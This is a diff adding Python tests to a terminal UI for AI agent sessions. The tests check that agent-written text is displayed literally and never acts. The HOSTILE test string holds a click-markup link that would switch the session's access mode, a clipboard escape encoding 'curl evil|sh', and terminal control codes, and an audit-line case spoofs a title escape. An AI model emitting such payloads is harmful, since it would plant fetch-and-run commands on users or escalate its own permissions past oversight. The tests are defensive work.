@@ -365,3 +365,38 @@ async def test_keys_typed_right_after_enter_reach_the_program() -> None:
         await wait_until(pilot, lambda: app.client._find("fix-login-bug").id in app.client.consoles, "the console")
         console = app.client.console_for("fix-login-bug")
         await wait_until(pilot, lambda: bytes(console.received) == b"echo", "the keys at the program")
+
+
+HOSTILE = "[@click=app.access_mode]click me[/] [b]bold[/b] \x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J"
+
+
+async def test_agent_written_text_is_shown_literally_and_never_acts() -> None:
+    """An agent's hook payload reaches a toast and Info: as markup its `[@click=...]` would be a live link
+    that switches the session's access mode on one click."""
+    app = fake_app()
+    async with app.run_test(size=SIZE) as pilot:
+        await _ready(pilot)
+        session = app.client.sessions["id-fix-login"]
+        app.client.update(session.model_copy(update={"agent_status": AgentStatus.IDLE}))
+        await wait_until(pilot, lambda: app.sessions["id-fix-login"].agent_status == AgentStatus.IDLE, "idle")
+        app.client.update(session.model_copy(update={"agent_status": AgentStatus.WAITING_INPUT,
+                                                     "agent_detail": {"question": HOSTILE}}))
+        await wait_until(pilot, lambda: any("click me" in str(n.message) for n in app._notifications), "the toast")
+        [note] = [n for n in app._notifications if "click me" in str(n.message)]
+        assert note.markup is False
+        assert "[@click=app.access_mode]click me[/]" in note.message and "[b]bold[/b]" in note.message
+        assert "\x1b" not in note.message and "\x07" not in note.message
+
+
+def test_info_fields_show_agent_text_literally() -> None:
+    from rich.console import Console
+
+    from clauderon_tui.widgets.info import audit_line, field_table
+
+    console = Console(width=200, record=True, color_system=None)
+    console.print(field_table({"agent_detail": {"question": HOSTILE}, "title": HOSTILE}))
+    shown = console.export_text()
+    assert shown.count("[@click=app.access_mode]click me[/]") == 2 and "[b]bold[/b]" in shown
+    assert "\x1b" not in shown
+    line = audit_line({"ts": 0, "method": "GET", "host": "evil\x1b]2;pwned\x07.example", "path": "/\x1b[2J"})
+    assert "\x1b" not in line and "\x07" not in line
